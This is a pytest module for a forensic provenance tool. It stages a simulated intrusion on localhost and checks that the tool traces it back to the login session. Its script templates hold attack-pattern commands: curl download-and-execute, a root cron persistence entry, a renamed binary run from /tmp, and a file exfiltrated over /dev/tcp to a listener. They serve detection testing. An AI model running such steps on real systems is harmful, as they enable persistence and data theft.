"""An intrusion recorded by the real sensor, then reconstructed.

A "login" (loginuid written, as pam_loginuid does, so the kernel opens an audit session)
runs a shell that downloads a script from a local HTTP server with curl, makes it
executable and runs it; the script writes a cron file, copies a binary to /tmp under
another name and runs it, and sends a file to a local TCP listener. Then: backtrack from
the cron file reaches curl, the HTTP server's address and the session; forward from the
session finds the cron file, the copied binary and the connection; a pid the kernel hands
out twice stays two processes.
"""

from __future__ import annotations

import io
import os
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from forensix.analysis.filehistory import file_history
from forensix.analysis.graph import Graph, TrackOptions, backtrack, forward
from forensix.analysis.processes import tree
from forensix.analysis.report import build_report
from forensix.analysis.sessions import attribute, sessions
from forensix.analysis.targets import Target
from forensix.render.report import render_html, render_markdown
from forensix.store.embedded import open_reader
from forensix.testing.scenario import free_port, listener, record_login

pytestmark = pytest.mark.bpf

SCRIPT = """#!/bin/bash
echo '* * * * * root /tmp/{tag}-copied' > {cron}
cp /usr/bin/id /tmp/{tag}-copied
/tmp/{tag}-copied > {work}/id.out
cat {work}/secret > /dev/tcp/127.0.0.1/{lport}
"""

SESSION = """
cd {work}
curl -s -o {work}/x.sh http://127.0.0.1:{hport}/x.sh
chmod +x {work}/x.sh
{work}/x.sh
su nobody -s /bin/sh -c 'id > /dev/null'
# pid reuse: ask the kernel for the same pid twice (ns_last_pid), retrying if another
# process on the host takes it in between
for i in 1 2 3 4 5 6 7 8; do
  sh -c 'echo one > "$0"' {work}/one & p1=$!; wait $p1
  # entity ids tell processes apart by start time in clock ticks (10 ms): real pid reuse
  # comes after the pid space wraps, far later than that
  sleep 0.03
  echo $((p1 - 1)) > /proc/sys/kernel/ns_last_pid
  sh -c 'echo two > "$0"' {work}/two & p2=$!; wait $p2
  [ "$p1" = "$p2" ] && break
done
echo "$p1 $p2" > {work}/pids
"""


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    work = tmp_path_factory.mktemp("intrusion")
    tag = "fx" + uuid.uuid4().hex[:8]
    cron = Path("/etc/cron.d") / tag if Path("/etc/cron.d").is_dir() else work / "cron.d" / tag
    cron.parent.mkdir(exist_ok=True)
    (work / "www").mkdir()
    (work / "secret").write_text("the secret\n" * 100)
    received: list[bytes] = []
    srv, lport = listener(received)
    hport = free_port()
    (work / "www" / "x.sh").write_text(SCRIPT.format(tag=tag, cron=cron, work=work, lport=lport))
    http = subprocess.Popen([sys.executable, "-m", "http.server", str(hport), "--bind", "127.0.0.1",
                             "--directory", str(work / "www")], stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    for _ in range(100):
        try:
            socket.create_connection(("127.0.0.1", hport), timeout=0.2).close()
            break
        except OSError:
            time.sleep(0.05)
    (work / "session.sh").write_text(SESSION.format(work=work, hport=hport))
    store = work / "case.duckdb"
    # The "login": write loginuid as pam_loginuid does; the kernel opens a new audit session.
    try:
        r = record_login(store, work / "session.sh", 4242)
        assert r.returncode == 0, r.stderr
    finally:
        http.terminate()
        http.wait(timeout=10)
        srv.close()
        cron.unlink(missing_ok=True)
        Path(f"/tmp/{tag}-copied").unlink(missing_ok=True)
    assert received and b"the secret" in b"".join(received)
    p1, p2 = (int(x) for x in (work / "pids").read_text().split())
    yield {"reader": open_reader(store), "work": work, "cron": str(cron), "tag": tag, "hport": hport,
           "lport": lport, "pids": (p1, p2), "http_pid": http.pid}


def _procs(g: Graph) -> dict[str, Any]:
    return {n.attrs.get("executable", ""): n for n in g.node_by("process")}


def _session_of(rec: dict[str, Any]) -> int:
    att = attribute(rec["reader"])
    leaders = {att.leader_of[e] for e, p in att.procs.items() if p.auid == 4242}
    assert len(leaders) == 1, leaders
    return leaders.pop()


def test_backtrack_from_the_cron_file(recorded: dict[str, Any]) -> None:
    r = recorded["reader"]
    g = backtrack(r, Target("file", path=recorded["cron"]), TrackOptions(depth=20))
    procs = _procs(g)
    assert "/usr/bin/curl" in procs, sorted(procs)
    http_addr = f"127.0.0.1:{recorded['hport']}"
    assert any(http_addr in n.label for n in g.node_by("connection")), [n.label for n in g.nodes.values()]
    assert any(n.attrs.get("pid") == recorded["http_pid"] for n in g.node_by("process"))
    leader = _session_of(recorded)
    assert f"p:{leader:016x}" in g.nodes
    # the downloaded script is on the path from curl to the cron file
    assert any(n.label.endswith("/x.sh") for n in g.node_by("file"))


def test_forward_from_the_session(recorded: dict[str, Any]) -> None:
    r = recorded["reader"]
    leader = _session_of(recorded)
    g = forward(r, Target("session", session=f"{leader:016x}"), TrackOptions(depth=6))
    files = {n.label for n in g.node_by("file")}
    assert recorded["cron"] in files
    assert f"/tmp/{recorded['tag']}-copied" in files
    conns = [n.label for n in g.node_by("connection")]
    assert any(f"127.0.0.1:{recorded['lport']}" in c for c in conns), conns
    executed = [e for e in g.edges if e.kind == "exec" and g.nodes[e.src].label == f"/tmp/{recorded['tag']}-copied"]
    assert executed


def test_session_is_the_login(recorded: dict[str, Any]) -> None:
    r = recorded["reader"]
    leader = _session_of(recorded)
    row = next(x for x in sessions(r).to_pylist() if x["leader_entity_id"] == leader)
    assert row["kind"] == "login" and row["user_id"] == 4242 and row["audit_session_id"]
    assert any(t.startswith("su[") for t in row["transitions"]), row["transitions"]
    t = tree(r, members=attribute(r).members(leader))
    exes = t.column("executable").to_pylist()
    assert "/usr/bin/curl" in exes and "/usr/bin/chmod" in exes


def test_reused_pid_stays_two_processes(recorded: dict[str, Any]) -> None:
    r = recorded["reader"]
    p1, p2 = recorded["pids"]
    assert p1 == p2, "the kernel did not hand out the same pid twice"
    ents = r.query("SELECT DISTINCT entity_id FROM processes WHERE pid = $p AND image_seq = 0",
                   {"p": p1}).column("entity_id").to_pylist()
    assert len(ents) >= 2
    one = str(recorded["work"] / "one")
    two = str(recorded["work"] / "two")
    g1 = backtrack(r, Target("file", path=one), TrackOptions(depth=1))
    g2 = backtrack(r, Target("file", path=two), TrackOptions(depth=1))
    w1 = {n.key for n in g1.node_by("process")}
    w2 = {n.key for n in g2.node_by("process")}
    assert w1 and w2 and not (w1 & w2)
    h = file_history(r, one).to_pylist()
    assert {x["process_entity_id"] for x in h} & {n.attrs["entity_id"] for n in g1.node_by("process")}


def test_report_from_the_cron_file(recorded: dict[str, Any]) -> None:
    r = recorded["reader"]
    rep = build_report(r, Target("file", path=recorded["cron"]))
    assert rep.session is not None and rep.session["user_id"] == 4242
    md = io.StringIO()
    render_markdown(rep, md)
    text = md.getvalue()
    assert recorded["cron"] in text and "curl" in text
    if recorded["cron"].startswith("/etc/cron.d/"):
        assert "| cron |" in text
    html = io.StringIO()
    render_html(rep, html)
    assert "<svg" in html.getvalue()
    assert os.path.exists(recorded["work"] / "id.out")
